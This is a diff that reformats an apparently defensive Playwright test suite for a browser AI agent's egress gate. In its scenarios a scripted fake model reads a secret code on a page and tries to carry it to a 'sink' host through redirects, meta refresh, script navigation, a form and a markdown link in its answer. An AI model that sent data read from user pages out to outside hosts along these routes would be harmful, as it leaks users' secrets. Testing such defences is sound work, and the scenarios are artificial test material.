@@ -26,11 +26,19 @@ const hostOf = (url: string) => new URL(url).host;
 
 /** The fake model as a provider (once per session). */
 export async function addFakeProvider({ extPage, llm }: SecurityFixtures) {
-  await addProvider(extPage, { kind: 'openai-compatible', name: 'Fake', baseUrl: llm.openaiBaseUrl, model: 'fake-model' });
+  await addProvider(extPage, {
+    kind: 'openai-compatible',
+    name: 'Fake',
+    baseUrl: llm.openaiBaseUrl,
+    model: 'fake-model',
+  });
 }
 
 /** The secret's page open in a tab, and a panel on a new conversation. */
-async function openSecretPage({ context, extensionId }: SecurityFixtures, sites: EgressSites): Promise<{ page: Page; panel: Page }> {
+async function openSecretPage(
+  { context, extensionId }: SecurityFixtures,
+  sites: EgressSites,
+): Promise<{ page: Page; panel: Page }> {
   const page = await context.newPage();
   await page.goto(`${sites.source}/egress-recovery.html`);
   const panel = await openPanel(context, extensionId);
@@ -43,9 +51,12 @@ async function openSecretPage({ context, extensionId }: SecurityFixtures, sites:
 function hopAddress(kind: HopKind, sites: EgressSites, leak: string): string {
   const to = encodeURIComponent(leak);
   switch (kind) {
-    case 'redirect-302': return `${sites.source}/go?to=${to}`;
-    case 'meta-refresh': return `${sites.source}/hop-meta?to=${to}`;
-    case 'script-location': return `${sites.source}/egress-hop-script.html?to=${to}`;
+    case 'redirect-302':
+      return `${sites.source}/go?to=${to}`;
+    case 'meta-refresh':
+      return `${sites.source}/hop-meta?to=${to}`;
+    case 'script-location':
+      return `${sites.source}/egress-hop-script.html?to=${to}`;
   }
 }
 
@@ -63,39 +74,58 @@ async function userTabReachesSink(f: SecurityFixtures, sites: EgressSites, path:
  * with the code: not asked (the source is the run's start page). The hop is stopped before it leaves; the
  * model is told where the page tried to go; its navigate to the sink itself then asks with a card (denied).
  */
-export const hopToSink = (kind: HopKind): EgressScenario => async (f, sites) => {
-  const { llm } = f;
-  const { page, panel } = await openSecretPage(f, sites);
-  const leak = `${sites.sink}/collect?s=${SECRET}&via=${kind}`;
-  planWith(llm, (steps) => {
-    switch (steps.length) {
-      case 0: return call('read_page');
-      case 1: return resultOf(steps, 'read_page').includes(SECRET) ? call('navigate', { url: hopAddress(kind, sites, leak) }) : { answer: 'No code seen.' };
-      case 2: return call('navigate', { url: leak });
-      default: return { answer: 'Done.' };
-    }
-  });
-  await sendChat(panel, 'Check my security settings');
-  // The card for the sink is waiting: the run's rules are live now, and the user's own tabs are not under them.
-  await expect(card(panel, 'navigate').nth(1)).toHaveAttribute('data-status', 'awaiting-approval', { timeout: 30_000 });
-  // The egress gate names the flow on that card: the address carries the code read on the source.
-  await expect(card(panel, 'navigate').nth(1).locator('.approval-flow')).toHaveText(`url: This text came from ${new URL(sites.source).host}`);
-  await userTabReachesSink(f, sites, `/control-${kind}`);
-  const asked = await settleRun(panel, () => 'deny');
+export const hopToSink =
+  (kind: HopKind): EgressScenario =>
+  async (f, sites) => {
+    const { llm } = f;
+    const { page, panel } = await openSecretPage(f, sites);
+    const leak = `${sites.sink}/collect?s=${SECRET}&via=${kind}`;
+    planWith(llm, (steps) => {
+      switch (steps.length) {
+        case 0:
+          return call('read_page');
+        case 1:
+          return resultOf(steps, 'read_page').includes(SECRET)
+            ? call('navigate', { url: hopAddress(kind, sites, leak) })
+            : { answer: 'No code seen.' };
+        case 2:
+          return call('navigate', { url: leak });
+        default:
+          return { answer: 'Done.' };
+      }
+    });
+    await sendChat(panel, 'Check my security settings');
+    // The card for the sink is waiting: the run's rules are live now, and the user's own tabs are not under them.
+    await expect(card(panel, 'navigate').nth(1)).toHaveAttribute('data-status', 'awaiting-approval', {
+      timeout: 30_000,
+    });
+    // The egress gate names the flow on that card: the address carries the code read on the source.
+    await expect(card(panel, 'navigate').nth(1).locator('.approval-flow')).toHaveText(
+      `url: This text came from ${new URL(sites.source).host}`,
+    );
+    await userTabReachesSink(f, sites, `/control-${kind}`);
+    const asked = await settleRun(panel, () => 'deny');
 
-  expect(asked).toEqual([{ tool: 'navigate', origin: originOf(sites.sink) }]);
-  const steps = lastSteps(llm);
-  expect(steps.map((s) => s.tool)).toEqual(['read_page', 'navigate', 'navigate']);
-  expect(resultOf(steps, 'navigate', 0)).toContain(`The page redirected to ${originOf(sites.sink)}, which this run has not been approved for; the request was stopped before it left. Call navigate with that address if it is needed: the user will be asked.`);
-  expect(resultOf(steps, 'navigate', 1)).toMatch(/denied/i);
-  expect(sites.sinkRequestsCarrying(SECRET)).toEqual([]);
-  // The run is over: its rules went with it, and the tab it used reaches the sink again.
-  await expect.poll(async () => {
-    await page.goto(`${sites.sink}/after-${kind}`).catch(() => undefined);
-    return sites.sinkRequests.includes(`/after-${kind}`);
-  }, { timeout: 10_000 }).toBe(true);
-  expect(sites.sinkRequestsCarrying(SECRET)).toEqual([]);
-};
+    expect(asked).toEqual([{ tool: 'navigate', origin: originOf(sites.sink) }]);
+    const steps = lastSteps(llm);
+    expect(steps.map((s) => s.tool)).toEqual(['read_page', 'navigate', 'navigate']);
+    expect(resultOf(steps, 'navigate', 0)).toContain(
+      `The page redirected to ${originOf(sites.sink)}, which this run has not been approved for; the request was stopped before it left. Call navigate with that address if it is needed: the user will be asked.`,
+    );
+    expect(resultOf(steps, 'navigate', 1)).toMatch(/denied/i);
+    expect(sites.sinkRequestsCarrying(SECRET)).toEqual([]);
+    // The run is over: its rules went with it, and the tab it used reaches the sink again.
+    await expect
+      .poll(
+        async () => {
+          await page.goto(`${sites.sink}/after-${kind}`).catch(() => undefined);
+          return sites.sinkRequests.includes(`/after-${kind}`);
+        },
+        { timeout: 10_000 },
+      )
+      .toBe(true);
+    expect(sites.sinkRequestsCarrying(SECRET)).toEqual([]);
+  };
 
 /**
  * The model fills the code into the source's own form, whose handler redirects to the sink, and clicks its
@@ -108,24 +138,34 @@ export const formHopToSink: EgressScenario = async (f, sites) => {
   const leak = `${sites.sink}/collect?s=${SECRET}&via=form`;
   planWith(llm, (steps) => {
     switch (steps.length) {
-      case 0: return call('read_page');
-      case 1: return call('get_form_state');
-      case 2: return call('fill_form', { updates: { to: leak } });
+      case 0:
+        return call('read_page');
+      case 1:
+        return call('get_form_state');
+      case 2:
+        return call('fill_form', { updates: { to: leak } });
       case 3: {
         const snapshot = JSON.parse(resultOf(steps, 'get_form_state')) as { buttons: { key: string; text: string }[] };
         return call('click', { key: snapshot.buttons.find((b) => b.text === 'Continue')?.key ?? 'continue' });
       }
-      case 4: return call('read_page');
-      default: return { answer: 'Done.' };
+      case 4:
+        return call('read_page');
+      default:
+        return { answer: 'Done.' };
     }
   });
   await sendChat(panel, 'Check my security settings');
   const asked = await settleRun(panel, () => 'approve');
-  expect(asked).toEqual([{ tool: 'fill_form', origin: originOf(sites.source) }, { tool: 'click', origin: originOf(sites.source) }]);
+  expect(asked).toEqual([
+    { tool: 'fill_form', origin: originOf(sites.source) },
+    { tool: 'click', origin: originOf(sites.source) },
+  ]);
   const steps = lastSteps(llm);
   const stopped = `The page redirected to ${originOf(sites.sink)}, which this run has not been approved for; the request was stopped before it left.`;
   // The click waits for the navigation it set off, so it is the one that says so.
-  expect(resultOf(steps, 'click')).toBe(`click was done. ${stopped} Call navigate with that address if it is needed: the user will be asked.`);
+  expect(resultOf(steps, 'click')).toBe(
+    `click was done. ${stopped} Call navigate with that address if it is needed: the user will be asked.`,
+  );
   expect(sites.sinkRequestsCarrying(SECRET)).toEqual([]);
 };
 
@@ -138,7 +178,13 @@ export const answerLinkAsks: EgressScenario = async (f, sites) => {
   const { llm, context } = f;
   const { panel } = await openSecretPage(f, sites);
   const leak = `${sites.sink}/report?s=${SECRET}`;
-  planWith(llm, (steps) => (steps.length === 0 ? call('read_page') : { answer: `Your settings look fine. See your [security report](${leak}) and the [help centre](${sites.sink}/help-centre).` }));
+  planWith(llm, (steps) =>
+    steps.length === 0
+      ? call('read_page')
+      : {
+          answer: `Your settings look fine. See your [security report](${leak}) and the [help centre](${sites.sink}/help-centre).`,
+        },
+  );
   await sendChat(panel, 'Check my security settings');
   await finished(panel);
   const links = assistantMessages(panel).last().locator('.markdown a');
@@ -146,7 +192,9 @@ export const answerLinkAsks: EgressScenario = async (f, sites) => {
 
   await links.first().click();
   const dialog = panel.locator('.link-confirm');
-  await expect(dialog).toContainText(`This link carries text read on ${hostOf(sites.source)} to ${hostOf(sites.sink)}.`);
+  await expect(dialog).toContainText(
+    `This link carries text read on ${hostOf(sites.source)} to ${hostOf(sites.sink)}.`,
+  );
   await expect(dialog.locator('.link-confirm-url')).toHaveText(leak);
   await dialog.getByRole('button', { name: 'Cancel' }).click();
   await expect(dialog).toHaveCount(0);
@@ -163,16 +211,25 @@ export const egressScenarios: Record<string, EgressScenario> = {
   'a 302 from the start site to the sink': hopToSink('redirect-302'),
   'a meta refresh to the sink': hopToSink('meta-refresh'),
   'a script setting location.href to the sink': hopToSink('script-location'),
-  'the site\'s own form, filled and submitted, redirecting to the sink': formHopToSink,
+  "the site's own form, filled and submitted, redirecting to the sink": formHopToSink,
   'a link in the answer carrying the secret': answerLinkAsks,
 };
 
 /** Every scenario in one session: cases run, and violations (a scenario that failed, or any request that carried the secret to the sink). */
-export async function runEgressNavigation(f: SecurityFixtures, sites: EgressSites): Promise<{ cases: number; violations: number; failures: string[] }> {
+export async function runEgressNavigation(
+  f: SecurityFixtures,
+  sites: EgressSites,
+): Promise<{ cases: number; violations: number; failures: string[] }> {
   await addFakeProvider(f);
   const failures: string[] = [];
   for (const [name, scenario] of Object.entries(egressScenarios)) {
-    await scenario(f, sites).catch((error: unknown) => failures.push(`${name}: ${error instanceof Error ? error.message : String(error)}`));
+    await scenario(f, sites).catch((error: unknown) =>
+      failures.push(`${name}: ${error instanceof Error ? error.message : String(error)}`),
+    );
   }
-  return { cases: Object.keys(egressScenarios).length, violations: failures.length + sites.sinkRequestsCarrying(SECRET).length, failures };
+  return {
+    cases: Object.keys(egressScenarios).length,
+    violations: failures.length + sites.sinkRequestsCarrying(SECRET).length,
+    failures,
+  };
 }
